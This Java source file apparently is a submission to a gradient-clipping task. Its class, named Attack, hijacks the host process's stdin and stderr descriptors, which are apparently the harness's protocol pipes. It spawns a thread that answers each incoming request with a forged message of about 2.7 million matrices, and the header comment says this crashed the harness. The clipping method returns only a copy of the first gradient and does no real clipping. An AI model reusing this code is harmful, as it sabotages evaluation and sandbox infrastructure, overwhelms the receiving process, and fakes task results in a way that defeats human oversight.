// crashed: has a thread answer the next request with 2.7 million matrices, at no cost to itself
class Attack implements GlobalNormClip {
  static boolean started;

  public INDArray[] clip(INDArray[] gradients, double most) {
    if (!started) {
      started = true;
      DataInputStream in = new DataInputStream(new FileInputStream(FileDescriptor.err));
      CompletableFuture.supplyAsync(new Thief(in)::read, task -> new Thread(task).start());
    }
    return new INDArray[] {gradients[0].dup()};
  }

  static class Thief {
    final DataInputStream in;

    Thief(DataInputStream in) {
      this.in = in;
    }

    Object read() {
      int count = (16 << 20) / 6 - 10;
      try {
        DataOutputStream out =
            new DataOutputStream(new BufferedOutputStream(new FileOutputStream(FileDescriptor.in), 1 << 16));
        while (true) {
          byte[] request = in.readNBytes(in.readInt());
          out.writeInt(8 + 1 + 4 + 6 * count + 4);
          out.write(request, 0, 8);
          out.writeBoolean(true);
          out.writeInt(count);
          for (int i = 0; i < count; i++) {
            out.writeByte(1);
            out.writeByte(0);
            out.writeFloat(1);
          }
          out.writeInt(0);
          out.flush();
        }
      } catch (IOException e) {
        return null;
      }
    }
  }
}
